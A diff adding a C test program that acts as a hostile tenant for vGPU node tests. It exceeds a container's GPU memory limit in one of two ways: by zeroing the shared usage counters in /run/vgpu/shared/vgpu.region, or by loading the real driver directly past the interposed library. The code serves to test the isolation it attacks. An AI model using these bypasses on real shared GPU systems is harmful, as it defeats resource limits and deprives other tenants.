@@ -1,0 +1,97 @@
+/* A hostile tenant for the vgpu node tests (issue 18): takes more device
+ * memory than its container's limit by a route the in-process library cannot
+ * close, then holds it until stdin closes.
+ *   vgpu-attack region MIB   allocates through the stand-in (libcuda.so.1) in
+ *                            256 MiB steps, zeroing every slot's usage
+ *                            counters in /run/vgpu/shared/vgpu.region before
+ *                            each step (attack 1)
+ *   vgpu-attack driver MIB   dlopens the real driver by its full path under
+ *                            /usr/lib/vgpu/driver and allocates from it (attack 2)
+ * Prints "held_mib=N" once it holds N MiB. */
+#include <dlfcn.h>
+#include <fcntl.h>
+#include <glob.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+typedef int CUresult;
+typedef int CUdevice;
+typedef void *CUcontext;
+typedef unsigned long long CUdeviceptr;
+
+#define MiB (1024ULL * 1024ULL)
+#define STEP (256 * MiB)
+
+static void zero_region(void)
+{
+    int fd = open("/run/vgpu/shared/vgpu.region", O_RDWR);
+    if (fd < 0) return;
+    size_t size = 4096 + 1024 * 256;
+    unsigned char *r = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    close(fd);
+    if (r == MAP_FAILED) return;
+    for (int i = 0; i < 1024; i++) {
+        unsigned char *s = r + 4096 + i * 256;
+        if (*(volatile unsigned *)s == 1) memset(s + 64, 0, 16 * 8);
+    }
+    munmap(r, size);
+}
+
+int main(int argc, char **argv)
+{
+    if (argc < 3) {
+        fprintf(stderr, "usage: vgpu-attack region|driver MIB\n");
+        return 2;
+    }
+    int region = strcmp(argv[1], "region") == 0;
+    unsigned long long want = strtoull(argv[2], NULL, 10) * MiB;
+    const char *lib = "libcuda.so.1";
+    glob_t g;
+    if (!region) {
+        if (glob("/usr/lib/vgpu/driver/libcuda.so.[0-9]*", 0, NULL, &g) != 0 || g.gl_pathc < 1) {
+            printf("error=no real driver under /usr/lib/vgpu/driver\n");
+            return 1;
+        }
+        lib = g.gl_pathv[0];
+    }
+    void *h = dlopen(lib, RTLD_NOW | RTLD_LOCAL | (region ? 0 : RTLD_DEEPBIND));
+    if (!h) {
+        printf("error=dlopen %s: %s\n", lib, dlerror());
+        return 1;
+    }
+    CUresult (*init)(unsigned) = dlsym(h, "cuInit");
+    CUresult (*devget)(CUdevice *, int) = dlsym(h, "cuDeviceGet");
+    CUresult (*retain)(CUcontext *, CUdevice) = dlsym(h, "cuDevicePrimaryCtxRetain");
+    CUresult (*setcur)(CUcontext) = dlsym(h, "cuCtxSetCurrent");
+    CUresult (*alloc)(CUdeviceptr *, size_t) = dlsym(h, "cuMemAlloc_v2");
+    if (!init || !devget || !retain || !setcur || !alloc) {
+        printf("error=dlsym\n");
+        return 1;
+    }
+    CUdevice d;
+    CUcontext c;
+    CUresult rc;
+    if ((rc = init(0)) || (rc = devget(&d, 0)) || (rc = retain(&c, d)) || (rc = setcur(c))) {
+        printf("error=init %d\n", rc);
+        return 1;
+    }
+    unsigned long long held = 0;
+    while (held < want) {
+        CUdeviceptr p;
+        if (region) zero_region();
+        if ((rc = alloc(&p, STEP)) != 0) {
+            printf("alloc_rc=%d\n", rc);
+            break;
+        }
+        held += STEP;
+    }
+    printf("held_mib=%llu\n", held / MiB);
+    fflush(stdout);
+    char ch;
+    while (read(0, &ch, 1) > 0)
+        ;
+    return 0;
+}
